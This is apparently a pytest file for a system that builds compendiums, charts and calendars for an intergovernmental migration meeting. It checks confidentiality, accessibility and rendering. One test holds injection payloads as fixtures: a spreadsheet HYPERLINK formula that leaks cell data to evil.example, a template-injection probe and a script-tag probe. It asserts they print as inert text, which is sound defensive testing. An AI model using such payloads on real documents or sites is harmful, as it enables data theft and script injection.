"""The compendium and the pictures: only what may leave, and readable without colours."""

from io import BytesIO

import docx
import pypdfium2
import pytest
from matplotlib.image import imread

from agenda import facts as f
from agenda.audience import Audience
from agenda.plenary import Stage
from documents.agenda_calendar import agenda_calendar
from documents.blocks import Contents, Heading, text_of
from documents.docx_file import docx as as_docx
from documents.edition import edition_of
from documents.markdown import markdown
from documents.pdf_file import pdf
from documents.registers.bars import Bar, drawable, drawn
from documents.registers.charts import MOST_BARS, _shown, charts
from documents.registers.compendium import compendium
from documents.registers.held import running_order_calendar
from documents.registers.practice_sheets import practice_sheets
from tests.documents.registers.hostile import HOSTILE

INTERNAL, OUTSIDE = Audience.INTERNAL, Audience.OUTSIDE
LANGUAGES = ("en", "es")


def headings(document, level):
    return [text_of(b.runs) for b in document.blocks if isinstance(b, Heading) and b.level == level]


def allowed(summary):
    return [
        p for p in summary.plenary.practices.values() if p.visibility in ("compendium", "public")
    ]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_compendium_has_what_its_countries_let_out_session_by_session(meeting, language):
    document = compendium(meeting, language)
    titles = headings(document, 2)

    assert len(titles) == len(allowed(meeting))
    assert [t.split(" · ")[0].split(" ")[1] for t in titles] == [
        str(p.number) for p in allowed(meeting)
    ]
    assert any(isinstance(block, Contents) for block in document.blocks)


def test_the_compendium_says_what_a_practice_is_and_what_recognition_means(meeting):
    text = markdown(compendium(meeting, "en"))

    assert "11 practices from 11 countries; recognised by the meeting: 1." in text
    assert "Source: II plenary concept note, General Concept" in text
    assert "it binds nobody" in text
    assert "set no number of months" in text
    assert "**Evidence:**" in text
    assert "**State:** shared, not recognised" in text


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_compendium_keeps_focal_points_reviews_and_observers_out(meeting, language):
    text = markdown(compendium(meeting, language)) + markdown(
        practice_sheets(meeting, language, OUTSIDE)
    )

    for secret in ("focal.point", "Núñez", "IOM trained", "no dice de qué año", " of 27", " de 27"):
        assert secret not in text


def test_an_empty_compendium_says_so(going):
    text = markdown(compendium(going.summary, "en"))

    assert "No country has let a practice out of the meeting." in text


def test_every_practice_has_a_page_of_its_own_in_the_secretariats_print(meeting):
    document = practice_sheets(meeting, "en", INTERNAL)
    made = pypdfium2.PdfDocument(pdf(document, meeting.at))

    assert len(headings(document, 1)) == len(meeting.plenary.practices)
    assert len(made) > len(meeting.plenary.practices)
    assert "that only members may see" in markdown(document)


def test_hostile_texts_stay_texts_in_print(hostile):
    summary = hostile(HOSTILE)
    document = compendium(summary, "en")
    pdf(document, summary.at)
    read = docx.Document(BytesIO(as_docx(document, summary.at)))
    text = "\n".join(p.text for p in read.paragraphs)

    assert '=HYPERLINK("https://evil.example/?"&A1,"click")' in text
    assert "{{ 7*7 }} {% for x in y %}" in text
    assert "<script>alert(1)</script>" in text
    assert not any(link.is_external for link in read.part.rels.values())


@pytest.mark.parametrize("language", LANGUAGES)
def test_there_are_four_pictures_each_told_in_words(meeting, language):
    pictures = charts(meeting, language, INTERNAL)
    by_name = {p.file: p for p in pictures}

    assert list(by_name) == [
        f"speaking-by-delegation.{language}.png",
        f"speaking-by-process.{language}.png",
        f"practices-by-theme.{language}.png",
        f"practices-by-country.{language}.png",
    ]
    assert all(p.png.startswith(b"\x89PNG") for p in pictures)
    floor = by_name[f"speaking-by-delegation.{language}.png"].alt
    assert floor.count(" min ") == 23


def test_the_words_give_every_figure_of_the_picture(meeting):
    theme = charts(meeting, "en", OUTSIDE)[2]

    assert theme.alt.startswith("Practices by theme. ")
    assert "Grupo de trabajo sobre trata y tráfico: 1 practice, 1 recognised." in theme.alt
    assert charts(meeting, "es", INTERNAL)[3].alt.count("buena práctica") == 19


def test_a_theme_is_called_as_the_language_calls_it(meeting):
    assert "RCM: Labor Migration: " in charts(meeting, "en", INTERNAL)[2].alt
    assert "CRM: Migración laboral: " in charts(meeting, "es", INTERNAL)[2].alt
    assert "CRM: Migración laboral" in markdown(practice_sheets(meeting, "es", INTERNAL)).replace(
        "\\", ""
    )


def test_a_picture_with_nothing_to_show_is_left_out(going):
    assert charts(going.summary, "en", INTERNAL) == ()


def test_bars_are_told_apart_without_colours():
    solid, hatched = (
        _most_tones(drawn([Bar("One", parts, "1")], ())) for parts in ((1.0, 0.0), (0.0, 1.0))
    )

    assert solid < hatched / 2


def _most_tones(png):
    """Return how often light and dark take turns on the line where they do so most often."""
    grey = imread(BytesIO(png))[..., :3].mean(axis=2)
    return int((abs(grey[:, 1:] - grey[:, :-1]) > 0.3).sum(axis=1).max())


def test_no_figure_is_cut_off_at_the_edge_of_a_picture():
    bars = [Bar("Country " * 9, (1.0,), "229 min 32 s, 29 turns, and more of them")]
    page = imread(BytesIO(drawn(bars, ())))[..., :3]

    assert page[:, -3:].min() == 1
    assert page[:, :3].min() == 1


def test_letters_that_cannot_be_drawn_are_boxes():
    assert drawable("東京 Perú\n$x$") == "□□ Perú $x$"


def test_more_bars_than_a_page_holds_are_counted(meeting):
    bars = [Bar(str(n), (1.0,), "1") for n in range(MOST_BARS + 6)]
    shown = list(_shown(edition_of(meeting.plenary, "en"), bars))

    assert len(shown) == MOST_BARS + 1
    assert shown[-1].label == "and 6 more, in the table"


def test_the_calendar_of_what_was_held_takes_the_place_of_the_agendas(meeting):
    before = agenda_calendar(meeting.plenary.agenda, meeting.plenary.ended_at).decode()
    after = running_order_calendar(meeting).decode()

    assert _all(after, "UID") == _all(before, "UID")
    assert "DTSTART;TZID=America/Costa_Rica:20210909T095200" in after
    assert "DTEND;TZID=America/Costa_Rica:20210909T1100" in after
    unfolded = after.replace("\r\n ", "")
    assert "Held: 09:52–11:00 Central American time (GMT-6)" in unfolded
    assert "Planned: 09:50–10:50" in unfolded


def test_what_was_skipped_is_called_off(going):
    slot = next(iter(going.times))
    going.add(f.SlotSkipped(slot=slot, by=None))
    text = running_order_calendar(going.summary).decode()

    assert going.summary.plenary.stage is Stage.RUNNING
    assert text.count("STATUS:CANCELLED") == 1
    assert text.count("STATUS:CONFIRMED") == 10


def _all(text, name):
    return [line for line in text.splitlines() if line.startswith(name)]
